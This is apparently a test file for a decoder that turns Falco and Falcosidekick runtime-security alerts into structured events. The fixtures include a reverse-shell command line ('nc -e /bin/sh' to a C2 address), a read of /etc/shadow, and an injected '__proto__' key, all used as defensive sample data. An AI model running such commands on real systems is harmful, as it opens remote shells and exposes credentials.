import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { decodeFalco } from '../src/index.js';
import { assertThrowsCode, assertValidEvents, get, ndjson, NOW } from './helpers.js';

/** Falco 0.37 `json_output: true`, default rules, `kubectl exec -it web-1 -- bash`. */
const terminalShell = {
  hostname: 'node-1',
  output:
    '10:00:00.123456789: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=runc command=bash terminal=34816 exe_flags=EXE_WRITABLE container_id=4f2d8c6e1a3b container_image=docker.io/library/nginx container_image_tag=1.25 container_name=nginx k8s_ns=default k8s_pod_name=web-1)',
  priority: 'Notice',
  rule: 'Terminal shell in container',
  source: 'syscall',
  tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
  time: '2024-05-01T10:00:00.123456789Z',
  output_fields: {
    'container.id': '4f2d8c6e1a3b',
    'container.image.repository': 'docker.io/library/nginx',
    'container.image.tag': '1.25',
    'container.name': 'nginx',
    'evt.arg.flags': 'EXE_WRITABLE',
    'evt.time': 1714557600123456789,
    'evt.type': 'execve',
    'k8s.ns.name': 'default',
    'k8s.pod.name': 'web-1',
    'proc.cmdline': 'bash',
    'proc.exepath': '/usr/bin/bash',
    'proc.name': 'bash',
    'proc.pname': 'runc',
    'proc.tty': 34816,
    'user.loginuid': -1,
    'user.name': 'root',
    'user.uid': 0,
  },
};

/** Falcosidekick 2.28 webhook output: Falco's alert plus `uuid`; numbers stay numbers in output_fields. */
const sidekick = {
  uuid: '0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0',
  output:
    '10:00:07.000042000: Warning Outbound connection to C2 server (connection=10.0.3.17:43210->203.0.113.50:4444 proc=nc pid=4242 cmdline=nc -e /bin/sh 203.0.113.50 4444 container=4f2d8c6e1a3b)',
  priority: 'Critical',
  rule: 'Outbound Connection to C2 Servers',
  time: '2024-05-01T10:00:07.000042Z',
  output_fields: {
    'container.id': '4f2d8c6e1a3b',
    'container.image.repository': 'docker.io/library/nginx',
    'container.image.tag': '1.25',
    'evt.time': 1714557607000042000,
    'evt.type': 'connect',
    'fd.cip': '10.0.3.17',
    'fd.sip': '203.0.113.50',
    'k8s.ns.name': 'default',
    'k8s.pod.name': 'web-1',
    'proc.args': '-e /bin/sh 203.0.113.50 4444',
    'proc.cmdline': 'nc -e /bin/sh 203.0.113.50 4444',
    'proc.name': 'nc',
    'proc.pid': 4242,
    'user.name': 'root',
    'user.uid': 0,
  },
  source: 'syscall',
  tags: ['T1071', 'mitre_command_and_control', 'network'],
  hostname: 'node-1',
};

/** A host (non-container) alert where Falco could not resolve Kubernetes fields. */
const hostAlert = {
  hostname: 'bastion',
  output: '10:00:09.5: Warning Sensitive file opened for reading by non-trusted program (file=/etc/shadow)',
  priority: 'Warning',
  rule: 'Read sensitive file untrusted',
  source: 'syscall',
  tags: ['filesystem'],
  time: '2024-05-01T10:00:09.500000000Z',
  output_fields: { 'container.id': 'host', 'container.name': 'host', 'k8s.ns.name': null, 'k8s.pod.name': '<NA>', 'fd.name': '/etc/shadow', 'proc.name': 'cat' },
};

describe('decodeFalco', () => {
  it('maps Falco json_output: Terminal shell in container', () => {
    const { events, errors } = decodeFalco(Buffer.from(JSON.stringify(terminalShell)), { now: NOW });
    assert.deepEqual(errors, []);
    assertValidEvents(events);
    const e = events[0]!;
    assert.equal(e['@timestamp'], '2024-05-01T10:00:00.123Z');
    assert.equal(e.message, terminalShell.output);
    assert.deepEqual(e.rule, { name: 'Terminal shell in container' });
    assert.equal(e.event.kind, 'alert');
    assert.equal(e.event.module, 'falco');
    assert.equal(e.event.dataset, 'falco.alerts');
    assert.equal(e.event.severity, 40);
    assert.equal(e.event.action, 'execve');
    assert.deepEqual(e.log, { level: 'notice' });
    assert.deepEqual(e.tags, terminalShell.tags);
    assert.deepEqual(e.host, { name: 'node-1' });
    assert.deepEqual(e.kubernetes, { namespace: 'default', pod: { name: 'web-1' } });
    assert.deepEqual(e.orchestrator, { type: 'kubernetes', namespace: 'default' });
    assert.deepEqual(e.container, { id: '4f2d8c6e1a3b', name: 'nginx', image: { name: 'docker.io/library/nginx:1.25' } });
    assert.deepEqual(e.process, { name: 'bash', executable: '/usr/bin/bash', command_line: 'bash' });
    assert.deepEqual(e.user, { name: 'root', id: '0' });
    assert.equal(get(e, 'falco.priority'), 'Notice');
    assert.equal(get(e, 'falco.source'), 'syscall');
    assert.equal(get(e, ['falco', 'output_fields', 'proc.tty']), 34816);
  });

  it('maps a Falcosidekick payload and uses its uuid as the id', () => {
    const { events, errors } = decodeFalco(Buffer.from(JSON.stringify(sidekick)), { now: NOW });
    assert.deepEqual(errors, []);
    assertValidEvents(events);
    const e = events[0]!;
    assert.equal(e.event.id, sidekick.uuid);
    assert.equal(e.event.severity, 80);
    assert.deepEqual(e.log, { level: 'critical' });
    assert.deepEqual(e.process, {
      pid: 4242,
      name: 'nc',
      command_line: 'nc -e /bin/sh 203.0.113.50 4444',
      args: ['-e', '/bin/sh', '203.0.113.50', '4444'],
    });
    assert.deepEqual(e.destination, { ip: '203.0.113.50' });
    assert.deepEqual(e.source, { ip: '10.0.3.17' });
    assert.equal(e.event.action, 'connect');
  });

  it('maps nothing from unresolved fields and host processes', () => {
    const { events } = decodeFalco(Buffer.from(JSON.stringify(hostAlert)), { now: NOW });
    const e = events[0]!;
    assertValidEvents(events);
    assert.equal(e.container, undefined);
    assert.equal(e.kubernetes, undefined);
    assert.equal(e.orchestrator, undefined);
    assert.deepEqual(e.process, { name: 'cat' });
  });

  it('takes arrays and NDJSON; a bad line is one error', () => {
    const arr = decodeFalco(Buffer.from(JSON.stringify([terminalShell, sidekick])), { now: NOW });
    assert.equal(arr.events.length, 2);
    const lines = decodeFalco(ndjson(terminalShell, '{"rule": "truncated', hostAlert, { output: 'no rule' }, 42), { now: NOW });
    assert.equal(lines.events.length, 2);
    assert.deepEqual(
      lines.errors.map((e) => [e.index, e.code, e.field]),
      [
        [1, 'BWK_INGEST_BAD_JSON', undefined],
        [3, 'BWK_INGEST_BAD_FIELD', 'rule'],
        [4, 'BWK_INGEST_BAD_FIELD', undefined],
      ],
    );
  });

  it('is deterministic without a uuid, and keeps the raw alert when asked', () => {
    const body = ndjson(terminalShell, hostAlert);
    const a = decodeFalco(body, { now: NOW, keepOriginal: true });
    const b = decodeFalco(body, { now: new Date() });
    assert.deepEqual(a.events.map((e) => e.event.id), b.events.map((e) => e.event.id));
    assert.notEqual(a.events[0]!.event.id, a.events[1]!.event.id);
    assert.equal(a.events[0]!.event.original, JSON.stringify(terminalShell));
  });

  it('rejects bad alerts individually', () => {
    const badTime = { ...terminalShell, time: 'soon' };
    const reserved = JSON.stringify(sidekick).replace('"output_fields":{', '"output_fields":{"__proto__":{"x":1},');
    const wrongType = { ...terminalShell, output_fields: ['not', 'a', 'map'] };
    const { events, errors } = decodeFalco(ndjson(badTime, reserved, wrongType, sidekick), { now: NOW });
    assert.equal(events.length, 1);
    assert.deepEqual(
      errors.map((e) => [e.index, e.code, e.field]),
      [
        [0, 'BWK_INGEST_BAD_FIELD', 'time'],
        [1, 'BWK_INGEST_FORBIDDEN_KEY', 'output_fields.__proto__'],
        [2, 'BWK_INGEST_BAD_FIELD', 'output_fields'],
      ],
    );
  });

  it('fails the body when it is not JSON at all', () => {
    assertThrowsCode(() => decodeFalco(Buffer.from('Notice A shell was spawned'), { now: NOW }), 'BWK_INGEST_BAD_JSON');
    assertThrowsCode(() => decodeFalco(Buffer.from('[{"rule":"x"},'), { now: NOW }), 'BWK_INGEST_BAD_JSON');
    assertThrowsCode(() => decodeFalco(Buffer.from('  \n'), { now: NOW }), 'BWK_INGEST_EMPTY');
    assertThrowsCode(() => decodeFalco(Buffer.from('[]'), { now: NOW }), 'BWK_INGEST_EMPTY');
  });

  it('an invalid UTF-8 line spoils only itself', () => {
    const body = Buffer.concat([ndjson(terminalShell), Buffer.from('{"rule":"\xff"}\n', 'latin1'), ndjson(sidekick)]);
    const { events, errors } = decodeFalco(body, { now: NOW });
    assert.equal(events.length, 2);
    assert.deepEqual(errors.map((e) => [e.index, e.code]), [[1, 'BWK_INGEST_BAD_ENCODING']]);
  });
});
